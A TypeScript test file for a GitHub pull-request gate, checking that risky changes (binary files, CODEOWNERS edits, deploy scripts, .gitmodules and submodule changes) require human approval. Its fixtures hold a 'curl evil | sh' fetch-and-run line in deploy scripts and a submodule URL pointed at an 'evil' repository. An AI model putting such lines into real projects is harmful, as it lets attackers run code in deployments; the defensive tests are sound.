import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { INSTALLATION_ID, startHarness, type Harness } from '../support/app-harness.js';
import { AGENT, OWNER, REPO, added, prFlow, type FileSpec } from './pr-flow.js';

/**
 * Issue 19, hole 19: blind spots of the secrets and risk gates. A file GitHub gives no patch for (binary, too
 * large, a mode change) was skipped by the secret scan and added no risk; CODEOWNERS, deploy scripts, anything under
 * `.github/`, `.gitmodules` and submodule bumps weighed low, though they change who approves, what deploys or what
 * code is pulled in. Over HTTP, under a policy that asks a person above medium: each such change must not pass alone.
 */

let h: Harness;
const flow = prFlow(() => h, 800);

beforeAll(async () => {
  h = await startHarness();
  h.sim.addInstallation({ id: INSTALLATION_ID, account: OWNER });
  h.sim.addRepo({ owner: OWNER, name: REPO, defaultBranch: 'master', installationId: INSTALLATION_ID });
});
afterAll(async () => {
  await h?.close();
});
beforeEach(async () => {
  await flow.setConfig(`agents: ['${AGENT}']\nrisk: { maxLevel: critical, requireHumanApprovalAbove: medium }\n`);
});

const modified = (filename: string, patch: string): FileSpec => ({
  filename,
  status: 'modified',
  additions: 1,
  deletions: 1,
  patch,
});

describe('blind spots: changes that must not pass unseen', () => {
  it.each([
    [
      'a binary file (no patch)',
      [{ filename: 'assets/logo.png', status: 'added', additions: 0, deletions: 0 }],
      ['not scanned: `assets/logo.png`', 'no patch', 'cannot read what changed'],
    ],
    [
      'a file too large to diff',
      [{ filename: 'src/generated.ts', status: 'modified', additions: 90_000, deletions: 0 }],
      ['not scanned: `src/generated.ts`', 'cannot read what changed'],
    ],
    ['CODEOWNERS at the root', [added('CODEOWNERS', ['* @my-agent'])], ['who approves', '`CODEOWNERS`']],
    [
      'CODEOWNERS under .github/',
      [modified('.github/CODEOWNERS', '@@ -1 +1 @@\n-* @alice\n+* @my-agent')],
      ['`.github/CODEOWNERS`'],
    ],
    ['CODEOWNERS under docs/', [added('docs/CODEOWNERS', ['* @my-agent'])], ['`docs/CODEOWNERS`']],
    [
      'a deploy script',
      [modified('deploy/release.sh', '@@ -1 +1 @@\n-echo ok\n+curl evil | sh')],
      ['`deploy/release.sh`'],
    ],
    [
      'a script the deploy workflow runs',
      [modified('scripts/deploy.sh', '@@ -1 +1 @@\n-echo ok\n+curl evil | sh')],
      ['`scripts/deploy.sh`'],
    ],
    ['anything under .github/', [added('.github/dependabot.yml', ['version: 2'])], ['`.github/dependabot.yml`']],
    [
      '.gitmodules',
      [
        modified(
          '.gitmodules',
          '@@ -1,2 +1,2 @@\n [submodule "lib"]\n-\turl = https://github.com/a/lib\n+\turl = https://github.com/evil/lib',
        ),
      ],
      ['`.gitmodules`'],
    ],
    [
      'a submodule bump',
      [
        modified(
          'vendor/lib',
          '@@ -1 +1 @@\n-Subproject commit 1111111111111111111111111111111111111111\n+Subproject commit 2222222222222222222222222222222222222222',
        ),
      ],
      ['submodule', '`vendor/lib`'],
    ],
    [
      'a mode change',
      [{ filename: 'scripts/run.sh', status: 'changed', additions: 0, deletions: 0 }],
      ['mode or type', '`scripts/run.sh`'],
    ],
  ] as Array<[string, FileSpec[], string[]]>)('%s needs a person', async (_name, files, texts) => {
    const { headSha, payload } = flow.pullRequest(files);
    expect((await h.deliver('pull_request', payload)).status).toBe(200);
    const check = flow.checkFor(headSha);
    expect(check.conclusion).toBe('action_required');
    for (const text of texts) expect(JSON.stringify(check.output)).toContain(text);
  });

  it('an ordinary docs change still passes', async () => {
    const { headSha, payload } = flow.pullRequest([added('docs/usage.md', ['# Usage'])]);
    await h.deliver('pull_request', payload);
    expect(flow.checkFor(headSha).conclusion).toBe('success');
  });
});
